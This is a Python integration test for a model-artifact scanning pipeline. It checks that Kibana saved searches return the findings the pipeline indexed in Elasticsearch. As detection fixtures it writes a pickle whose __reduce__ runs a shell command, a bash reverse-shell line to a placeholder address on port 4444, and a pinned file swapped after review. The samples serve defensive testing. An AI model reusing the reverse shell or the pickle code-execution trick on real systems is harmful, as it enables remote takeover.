"""The Kibana saved searches run against what the real pipeline (Kafka -> workers -> Elasticsearch) indexed."""
from __future__ import annotations

import hashlib
import json
import pickle

import pytest

from modelscreen.schemas.inventory import ArtifactIdentity
from tests.integration.harness import Pipeline, upload_event
from tests.kibana import kql
from tests.kibana.assets import saved_objects, saved_search_query
from modelscreen.provenance.es_inventory import ElasticsearchInventory

pytestmark = pytest.mark.integration


class Payload:
    def __reduce__(self):
        import os

        return (os.system, ("touch /nonexistent/kibana-canary",))


def _searches() -> dict[str, str]:
    return {o["id"]: saved_search_query(o)[0] for o in saved_objects() if o["type"] == "search"}


def test_saved_searches_find_what_the_pipeline_indexed(kafka_bootstrap, elasticsearch_url, tmp_path):
    store = tmp_path / "store"
    store.mkdir()
    p = Pipeline(kafka_bootstrap, elasticsearch_url, tmp_path, MODELSCREEN_FETCH_FILE_ROOTS=json.dumps([str(store)]))
    try:
        p.setup()
        evil = store / "evil.pkl"
        evil.write_bytes(pickle.dumps(Payload(), protocol=2))
        shell = store / "setup.sh"
        shell.write_text("bash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n")
        pinned = store / "pinned.pkl"
        pinned.write_bytes(pickle.dumps({"w": [1.0]}, protocol=4))
        inv = ElasticsearchInventory(p.es, p.env["MODELSCREEN_INVENTORY_INDEX"], refresh_on_write=True)
        inv.pin(ArtifactIdentity(store="local", store_name="/tests", name="pinned.pkl", uri=pinned.as_uri()),
                hashlib.sha256(pinned.read_bytes()).hexdigest(), by="secops", reason="reviewed")
        pinned.write_bytes(pickle.dumps({"w": [2.0]}, protocol=4))  # swapped upstream
        p.start_worker()
        p.send([upload_event(evil, event_id="k-evil"), upload_event(shell, event_id="k-shell"),
                upload_event(pinned, event_id="k-pinned", action="downloaded")])
        docs = p.wait_for(lambda: (lambda d: d if {x["rule"]["id"] for x in d} >= {
            "PICKLE-DANGEROUS-CALL", "PINNED-ARTIFACT-CHANGED", "MSY-SHL-001"} else None)(p.findings_docs()),
                          timeout=120)
        assert docs, "the pipeline did not index the expected findings"

        def run(query: str) -> list[dict]:
            p.es.indices.refresh(index=p.findings)
            res = p.es.search(index=p.findings, query=kql.to_query_dsl(query), size=1000)
            return [h["_source"] for h in res["hits"]["hits"]]

        searches = _searches()
        high = run(searches["modelscreen-search-high-critical"])
        assert high and {d["event"]["id"] for d in high} == {d["event"]["id"] for d in docs
                                                               if d["event"]["severity"] >= 73}
        assert len(run(searches["modelscreen-search-by-store"])) == len(docs)
        assert {d["rule"]["id"] for d in run(searches["modelscreen-search-pinned-changes"])} == {"PINNED-ARTIFACT-CHANGED"}
        yara = run(searches["modelscreen-search-yara-hits"])
        assert yara and all(d["rule"]["id"].startswith("MSY-") and d["rule"]["version"] for d in yara)
        assert "MSY-SHL-001" in {d["rule"]["id"] for d in yara}
        critical = run(searches["modelscreen-search-recent-critical"])
        assert {d["modelscreen"]["severity_label"] for d in critical} == {"critical"}
        assert run(searches["modelscreen-search-unapproved-downloads"]) == []
        assert run(searches["modelscreen-search-analysis-errors"]) == []
    finally:
        p.close()
